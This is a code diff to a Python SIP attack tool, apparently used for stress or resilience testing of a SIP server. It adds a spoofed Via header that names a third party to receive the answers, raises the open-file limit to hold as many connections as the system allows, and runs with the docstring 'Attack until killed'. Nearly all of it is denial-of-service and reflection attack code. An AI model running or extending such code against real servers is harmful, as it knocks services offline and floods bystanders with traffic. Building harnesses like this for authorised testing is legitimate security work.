@@ -16,6 +16,7 @@ import errno
 import hashlib
 import json
 import random
+import resource
 import socket
 import sys
 import time
@@ -24,6 +25,9 @@ from collections.abc import Awaitable, Callable, Sequence
 from pathlib import Path
 
 Address = tuple[str, int]
+
+THIRD_PARTY = ("127.0.77.1", 5060)
+"""Whom a spoofed Via names."""
 
 MAX_SENT_BYTES = 48 * 1024 * 1024
 """What one connection sends at most: as much as froze a server for ten seconds when this was found."""
@@ -227,7 +231,7 @@ class Stranger:
 
     async def spoofed(self, target: Address) -> None:
         """A Via that tells of somebody else, who would get the answers."""
-        via = ";received=127.0.77.1;rport=5060"
+        via = f";received={THIRD_PARTY[0]};rport={THIRD_PARTY[1]}"
         self.send(target, *[self.request("INVITE", "sip:+493023125002@a.example", via=via) for _ in range(5)])
 
     async def malformed(self, target: Address) -> None:
@@ -289,7 +293,9 @@ def long_poll(target: Address) -> bytes:
 
 
 def main() -> None:
-    """Attack until killed."""
+    """Attack until killed, with as many open connections as the system allows."""
+    _, most = resource.getrlimit(resource.RLIMIT_NOFILE)
+    resource.setrlimit(resource.RLIMIT_NOFILE, (most, most))
     plan = json.loads(Path(sys.argv[1]).read_text())
     asyncio.run(Stranger(plan, plan["sources"], plan["share"]).run())
 
